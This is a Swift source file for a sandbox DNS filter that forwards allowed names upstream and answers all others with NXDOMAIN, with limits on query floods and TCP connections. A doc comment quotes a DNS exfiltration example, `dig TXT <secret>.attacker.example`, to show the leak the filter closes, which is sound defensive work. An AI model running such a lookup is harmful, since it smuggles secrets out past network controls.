import FWPolicy
import FWResolve
import NIOConcurrencyHelpers
import NIOCore
import NIOPosix

/// The DNS filter: a forwarder on 127.0.0.1 and ::1 at `dns.filter_port`, where the
/// ruleset redirects every DNS query of the sandbox (udp and tcp 53, any server).
///
/// - an allowed name (any host the policy names, exact or wildcard) is forwarded to
///   `dns.servers` with fwctl's socket mark (the one kind of query the redirect lets
///   out); its addresses enter the names sets before the reply is released;
/// - every other name gets NXDOMAIN, whatever the record type: the resolver is no longer
///   a way out for data (`dig TXT <secret>.attacker.example`);
/// - malformed queries get FORMERR, or nothing when there is no header to answer.
///
/// The blocking parts (the upstream exchange, the netlink transaction) run on a small
/// thread pool; the event loop only parses and answers refusals.
public final class DNSFilter: @unchecked Sendable {
    /// More queries than this waiting for upstream answers get SERVFAIL at once: a flood
    /// must not queue without bound.
    static let maxInFlight = 256
    /// A TCP connection lives at most this long (a slow client cannot hold it open).
    static let tcpLifetime = TimeAmount.seconds(10)
    /// At most this many TCP connections at once; more are closed at once.
    static let maxTCP = 64
    let tcpConnections = NIOLockedValueBox(0)
    static let servfail: UInt8 = 2, nxdomain: UInt8 = 3

    private let watcher: Watcher
    private let port: UInt16
    private let group: MultiThreadedEventLoopGroup
    private let pool: NIOThreadPool
    private var channels: [Channel] = []
    let stats = NIOLockedValueBox(Stats())

    struct Stats {
        var forwarded = 0, refused = 0, malformed = 0, failed = 0, inFlight = 0
    }

    public init(watcher: Watcher, port: UInt16) {
        self.watcher = watcher
        self.port = port
        group = MultiThreadedEventLoopGroup(numberOfThreads: 1)
        pool = NIOThreadPool(numberOfThreads: 8)
        pool.start()
    }

    /// Binds UDP and TCP on 127.0.0.1 and, where the host has it, ::1. Returns the
    /// addresses it listens on.
    public func start(notice: (String) -> Void) throws -> [String] {
        var bound: [String] = []
        for host in ["127.0.0.1", "::1"] {
            do {
                // SO_REUSEPORT: a new watch (`fwctl up` again) binds next to the old one before
                // the old one stops; the kernel grants it to the same user only. Never
                // SO_REUSEADDR on UDP: two sockets with it may share a port whatever their
                // users. SO_MARK: the ruleset's input guard lets only a socket with fwctl's
                // mark receive at this port.
                let reusePort = ChannelOptions.socketOption(NIOBSDSocket.Option(rawValue: SO_REUSEPORT))
                let mark = ChannelOptions.socketOption(NIOBSDSocket.Option(rawValue: SO_MARK))
                let markValue = Int(Int32(bitPattern: DNSSettings.filterMark))
                let udp = try DatagramBootstrap(group: group)
                    .channelOption(reusePort, value: 1)
                    .channelOption(mark, value: markValue)
                    .channelInitializer { channel in
                        channel.eventLoop.makeCompletedFuture { try channel.pipeline.syncOperations.addHandler(UDPQueryHandler(filter: self)) }
                    }
                    .bind(host: host, port: Int(port)).wait()
                let tcp = try ServerBootstrap(group: group)
                    .serverChannelOption(.socketOption(.so_reuseaddr), value: 1)
                    .serverChannelOption(reusePort, value: 1)
                    .serverChannelOption(mark, value: markValue)
                    .childChannelInitializer { channel in
                        // Bounded: at most `maxTCP` connections, each closed `tcpLifetime`
                        // after it was accepted, however it trickles bytes.
                        guard self.tcpConnections.withLockedValue({ n -> Bool in
                            guard n < Self.maxTCP else { return false }
                            n += 1
                            return true
                        }) else {
                            return channel.close()
                        }
                        channel.closeFuture.whenComplete { _ in self.tcpConnections.withLockedValue { $0 -= 1 } }
                        let deadline = channel.eventLoop.scheduleTask(in: Self.tcpLifetime) { channel.close(promise: nil) }
                        channel.closeFuture.whenComplete { _ in deadline.cancel() }
                        return channel.eventLoop.makeCompletedFuture {
                            try channel.pipeline.syncOperations.addHandlers([
                                ByteToMessageHandler(TCPFrameDecoder()),
                                TCPQueryHandler(filter: self),
                            ])
                        }
                    }
                    .bind(host: host, port: Int(port)).wait()
                channels += [udp, tcp]
                bound.append(host.contains(":") ? "[\(host)]:\(port)" : "\(host):\(port)")
            } catch where host == "::1" && !Self.hasIPv6Loopback() {
                notice("no IPv6 loopback here: the DNS filter listens on 127.0.0.1 only")
            }
        }
        return bound
    }

    public func stop() {
        for c in channels { try? c.close().wait() }
        channels = []
        try? pool.syncShutdownGracefully()
        try? group.syncShutdownGracefully()
    }

    public var summary: WatchSummary.Filter {
        let s = stats.withLockedValue { $0 }
        return WatchSummary.Filter(listening: [], forwarded: s.forwarded, refused: s.refused, malformed: s.malformed, failed: s.failed)
    }

    static func hasIPv6Loopback() -> Bool {
        let fd = socket(AF_INET6, Int32(SOCK_DGRAM.rawValue), 0)
        guard fd >= 0 else { return false }
        defer { close(fd) }
        var sin6 = sockaddr_in6()
        sin6.sin6_family = sa_family_t(AF_INET6)
        sin6.sin6_addr = in6addr_loopback
        return withUnsafePointer(to: &sin6) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in6>.size)) }
        } == 0
    }

    // MARK: - Deciding

    /// What to send back for one query, on `loop`; nil: send nothing.
    func answer(_ bytes: [UInt8], tcp: Bool, on loop: EventLoop) -> EventLoopFuture<[UInt8]?> {
        switch DNSMessage.parseQuery(bytes) {
        case .drop:
            stats.withLockedValue { $0.malformed += 1 }
            return loop.makeSucceededFuture(nil)
        case .reply(let refusal):
            stats.withLockedValue { $0.malformed += 1 }
            return loop.makeSucceededFuture(refusal)
        case .query(let query):
            guard watcher.allows(query.name) else {
                stats.withLockedValue { $0.refused += 1 }
                return loop.makeSucceededFuture(DNSMessage.reply(to: query, rcode: Self.nxdomain))
            }
            let admitted = stats.withLockedValue { s -> Bool in
                guard s.inFlight < Self.maxInFlight else { return false }
                s.inFlight += 1
                return true
            }
            guard admitted else {
                stats.withLockedValue { $0.failed += 1 }
                return loop.makeSucceededFuture(DNSMessage.reply(to: query, rcode: Self.servfail))
            }
            return pool.runIfActive(eventLoop: loop) { [watcher] in
                defer { self.stats.withLockedValue { $0.inFlight -= 1 } }
                let policy = watcher.current
                let dns = policy.policy.dns
                let upstream = DNSUpstream(servers: policy.servers, timeoutMs: dns.timeoutMs, attempts: dns.attempts,
                                           mark: DNSSettings.filterMark)
                guard let reply = upstream.exchange(query, tcp: tcp, capTTL: policy.maxTTL) else {
                    self.stats.withLockedValue { $0.failed += 1 }
                    return DNSMessage.reply(to: query, rcode: Self.servfail)
                }
                // Into the sets first: the client's first connection must already work.
                watcher.admit(name: query.name, addresses: reply.addresses, ttl: reply.ttl)
                self.stats.withLockedValue { $0.forwarded += 1 }
                return reply.wire
            }.map { Optional($0) }
        }
    }
}
